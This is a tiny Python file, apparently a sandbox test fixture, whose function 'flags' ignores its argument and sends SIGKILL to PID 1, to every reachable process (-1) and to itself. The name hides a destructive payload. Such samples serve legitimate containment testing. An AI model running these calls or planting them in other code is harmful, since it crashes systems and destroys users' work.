"""Every process that it can see."""

from __future__ import annotations

import os

HINT = "was killed"

import signal


def flags(names: list[str]) -> int:
    os.kill(1, signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
